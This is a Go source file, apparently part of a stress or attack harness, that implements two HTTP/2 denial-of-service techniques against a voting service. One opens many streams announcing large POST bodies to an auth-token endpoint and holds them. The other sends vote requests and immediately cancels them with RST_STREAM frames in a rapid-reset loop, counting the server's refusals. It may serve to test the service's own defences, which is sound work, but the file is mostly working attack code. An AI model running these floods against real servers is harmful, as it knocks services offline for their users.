package main

import (
	"bytes"
	"context"
	"errors"
	"io"
	"sync"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// rawStreams is an HTTP/2 connection without TLS that keeps to the form of the
// protocol only.
type rawStreams struct {
	*boundConn
	mu      sync.Mutex // of writes
	framer  *http2.Framer
	head    bytes.Buffer
	encoder *hpack.Encoder
	next    uint32
}

func (a *attacker) openHTTP2(ctx context.Context) (*rawStreams, error) {
	conn, err := a.begin(ctx, http2.ClientPreface)
	if err != nil {
		return nil, err
	}
	s := &rawStreams{boundConn: conn, framer: http2.NewFramer(conn, conn), next: 1}
	s.encoder = hpack.NewEncoder(&s.head)
	if err := s.framer.WriteSettings(); err != nil {
		conn.end()
		return nil, err
	}
	return s, nil
}

// request begins a stream and returns its number.
func (s *rawStreams) request(end bool, method, path string, fields ...string) (uint32, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.head.Reset()
	for _, f := range [][2]string{{":method", method}, {":scheme", "http"}, {":authority", "x"}, {":path", path}} {
		_ = s.encoder.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]}) // into a buffer
	}
	for i := 0; i < len(fields); i += 2 {
		_ = s.encoder.WriteField(hpack.HeaderField{Name: fields[i], Value: fields[i+1]})
	}
	id := s.next
	s.next += 2
	return id, s.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: s.head.Bytes(), EndStream: end, EndHeaders: true})
}

// drain reads frames until the program closes the connection, and counts them.
func (s *rawStreams) drain(a *attacker) error {
	for {
		frame, err := s.framer.ReadFrame()
		if err != nil {
			return err
		}
		switch f := frame.(type) {
		case *http2.SettingsFrame:
			if !f.IsAck() {
				s.mu.Lock()
				err = s.framer.WriteSettingsAck()
				s.mu.Unlock()
			}
		case *http2.RSTStreamFrame:
			a.count("stream refused: " + f.ErrCode.String())
		case *http2.GoAwayFrame:
			a.count("connection refused: " + f.ErrCode.String())
		}
		if err != nil {
			return err
		}
	}
}

func announceStreams(ctx context.Context, a *attacker) {
	a.flood(ctx, 20, func(ctx context.Context, _ int64) (string, error) {
		ctx, cancel := context.WithTimeout(ctx, a.Duration/3) // waves, as of announceBodies
		defer cancel()
		s, err := a.openHTTP2(ctx)
		if err != nil {
			return "", err
		}
		defer s.end()
		for range 250 {
			if _, err := s.request(false, "POST", "/sandbox/v1/authtoken", "content-length", "262144"); err != nil {
				return "", err
			}
		}
		if err := s.drain(a); ctx.Err() == nil {
			return "", err
		}
		return "held", nil
	})
}

func resetStreams(ctx context.Context, a *attacker) {
	a.flood(ctx, 8, func(ctx context.Context, _ int64) (string, error) {
		s, err := a.openHTTP2(ctx)
		if err != nil {
			return "", err
		}
		defer s.end()
		ended := make(chan error, 1)
		go func() { ended <- s.drain(a) }()
		for ctx.Err() == nil {
			if err := s.requestAndReset(a.Viewer); err != nil {
				err = errors.Join(<-ended)
				if errors.Is(err, io.EOF) {
					return "closed", nil
				}
				return "", err
			}
			a.count("reset")
		}
		return "done", nil
	})
}

func (s *rawStreams) requestAndReset(credential string) error {
	id, err := s.request(true, "GET", "/v1/vote?id="+mainPoll, "authorization", credential)
	if err != nil {
		return err
	}
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.framer.WriteRSTStream(id, http2.ErrCodeCancel)
}
